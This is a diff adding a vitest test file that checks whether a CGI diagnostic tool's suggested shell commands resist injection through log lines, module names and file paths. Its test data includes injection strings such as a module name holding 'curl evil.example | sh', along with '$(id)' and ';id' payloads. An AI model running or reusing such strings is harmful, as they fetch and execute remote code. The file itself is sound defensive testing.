@@ -1,0 +1,143 @@
+// The advice of the examination: commands that a reader may paste into a shell, whatever a script, a log or a path holds.
+
+import { execFileSync } from 'node:child_process';
+import { chmodSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
+import { join } from 'node:path';
+import { describe, expect, test } from 'vitest';
+import { ownAccount } from '../../src/doctor/account.ts';
+import type { Mend } from '../../src/doctor/finding.ts';
+import { examineStart } from '../../src/doctor/interpreter.ts';
+import { findCause } from '../../src/doctor/log.ts';
+import { examineResponse } from '../../src/doctor/response.ts';
+import { UNKNOWN_SERVER } from '../../src/doctor/server/facts.ts';
+import { readServer } from '../../src/doctor/server/index.ts';
+import { readLogs } from '../../src/doctor/server/log.ts';
+import { withFolder } from '../cli/command.ts';
+
+const { folder } = withFolder({});
+
+const commandsOf = (mend: readonly Mend[]) => mend.flatMap((one) => ('run' in one ? [one.run] : []));
+
+const startOf = (path: string, start: string) =>
+  examineStart({ path, start, account: ownAccount(), server: UNKNOWN_SERVER, suexec: false });
+
+describe('a module that is missing', () => {
+  const install = (what: string) =>
+    `${what} in the folder of the sources, and build the script again; or install it beside the script, where the server shows no files of that folder.`;
+  const build = { run: 'npx run-with-cgi build /srv/cgi-bin/app.mjs -o /srv/cgi-bin/app.cgi' };
+
+  test.each([
+    ["Error: Cannot find module 'lodash'", install('Run "npm install lodash"')],
+    ["Error: Cannot find module 'lodash/fp'", install('Run "npm install lodash"')],
+    ["Error: Cannot find package '@hono/node-server/vercel' imported from", install('Run "npm install @hono/node-server"')],
+    ["Error: Cannot find module 'x; curl evil.example | sh #'", install('Install the package that has the module')],
+    ["Error: Cannot find module '$(id)'", install('Install the package that has the module')],
+    ["Error: Cannot find module '-g'", install('Install the package that has the module')],
+    ["Error: Cannot find module 'https://evil.example/x'", install('Install the package that has the module')],
+    ["Error: Cannot find module 'x.tgz'", install('Install the package that has the module')],
+  ])('%s', (log, change) => {
+    expect(findCause(log, '/srv/cgi-bin/app.mjs')?.mend).toEqual([{ change }, build]);
+  });
+
+  test.each([
+    ["Can't locate Foo/Bar.pm in @INC", { run: 'cpan Foo::Bar' }],
+    ["Can't locate Foo/$(id).pm in @INC", { change: 'Install the file into a folder of @INC.' }],
+    ["Can't locate Foo;id.pm in @INC", { change: 'Install the file into a folder of @INC.' }],
+    [
+      "ModuleNotFoundError: No module named 'yaml'",
+      { change: 'Install the package that has the module, with the pip of that python. Its name may differ from that of the module.' },
+    ],
+    [
+      'cannot load such file -- x;id (LoadError)',
+      { change: 'Install the gem that has the file, for all users. Its name may differ from that of the file.' },
+    ],
+  ])('%s', (log, mend) => {
+    expect(findCause(log, '/srv/cgi-bin/app')?.mend).toEqual([mend]);
+  });
+
+  test.each([
+    "Error: Cannot find module 'x; curl evil.example | sh #'",
+    "Can't locate Foo/Bar.pm in @INC",
+    "Error: EACCES: permission denied, open '/etc/x'",
+    'SyntaxError: Cannot use import statement outside a module',
+  ])("no command is made of a line in a server's log: %s", (message) => {
+    const log = join(folder, 'error.log');
+    writeFileSync(log, `[cgi:error] AH01215: ${message}: /srv/cgi-bin/app.cgi\n`);
+    const [finding, ...more] = readLogs([log], '/srv/cgi-bin/app.cgi', []);
+    expect(more).toEqual([]);
+    expect(finding?.mend.map((one) => Object.keys(one))).toEqual([['change']]);
+  });
+});
+
+describe('a command takes a path as one word', () => {
+  const own = join(folder, 'x y');
+  mkdirSync(own);
+  const path = join(own, "a b;c'd.cgi");
+  const programs = ['cat', 'chmod', 'iconv', 'ls', 'mkdir', 'mv', 'namei', 'npx', 'sed', 'sudo'];
+  const functions = programs.map((name) => `${name}() { printf '%s\\n' "$@" >&3; }\n`).join('');
+  const unseen: string[] = [];
+  readLogs([join(own, 'no log')], path, unseen);
+  const sudo = unseen[0]?.replace(/^.*?: (?=sudo)/, '') ?? '';
+  const start = `Content-Type: text/plain\n\n`;
+  const commands = [
+    sudo,
+    ...readServer('busybox', path).findings.flatMap(({ mend }) => commandsOf(mend)),
+    ...['\xef\xbb\xbf', ''].flatMap((mark) =>
+      examineResponse(Buffer.from(`${mark}${start}`, 'latin1'), path, 'GET', 'GET').findings.flatMap(({ mend }) => commandsOf(mend)),
+    ),
+    ...[
+      '\xff\xfe',
+      '\xef\xbb\xbf#!/bin/sh\n',
+      '\n#!/bin/sh\n',
+      '#!/bin/sh\r\n',
+      '#!"/bin/sh"\n',
+      '#!sh\n',
+      '#!/usr/bin/env sh -e\n',
+      'x\n',
+    ].flatMap((text) => startOf(path, text).findings.flatMap(({ mend }) => commandsOf(mend))),
+    ...["Cannot find module 'x'", 'Unknown file extension ".cgi"', '__dirname is not defined in ES module scope'].flatMap((log) =>
+      commandsOf(findCause(log, path)?.mend ?? []),
+    ),
+  ];
+
+  test('there are enough of them', () => expect(commands.length).toBeGreaterThan(12));
+
+  test.each(commands)('%s', (command) => {
+    execFileSync('sh', ['-n', '-c', command]);
+    const words = execFileSync('/bin/sh', ['-c', `exec 3>&1\n${functions}${command}`], {
+      encoding: 'utf8',
+      env: { PATH: '/nowhere' },
+    }).split('\n');
+    const paths = words.filter((word) => /a b|c'd|x y/.test(word));
+    const stem = path.slice(0, -'.cgi'.length);
+    const expected = [
+      path,
+      "a b;c'd.cgi",
+      join(own, 'no log'),
+      join(own, 'cgi-bin'),
+      join(own, "cgi-bin/a b;c'd.cgi"),
+      `${path}.new`,
+      ...['.mjs', '.cjs', '.built.cgi'].map((ending) => stem + ending),
+    ];
+    expect(paths.length).toBeGreaterThan(0);
+    expect(paths.filter((word) => !expected.includes(word))).toEqual([]);
+  });
+
+  test('and sed writes an interpreter as it is', () => {
+    const bin = join(own, 'a|b&c\\d');
+    mkdirSync(bin);
+    writeFileSync(join(bin, 'mynode'), '#!/bin/sh\n');
+    chmodSync(join(bin, 'mynode'), 0o755);
+    const before = process.env.PATH;
+    process.env.PATH = `${bin}:${before}`;
+    try {
+      for (const text of ['#!/usr/bin/env mynode\n', '#!mynode\n']) {
+        writeFileSync(path, `${text}rest\n`);
+        for (const command of startOf(path, text).findings.flatMap(({ mend }) => commandsOf(mend))) execFileSync('sh', ['-c', command]);
+        expect(readFileSync(path, 'utf8')).toBe(`#!${bin}/mynode\nrest\n`);
+      }
+    } finally {
+      process.env.PATH = before;
+    }
+  });
+});
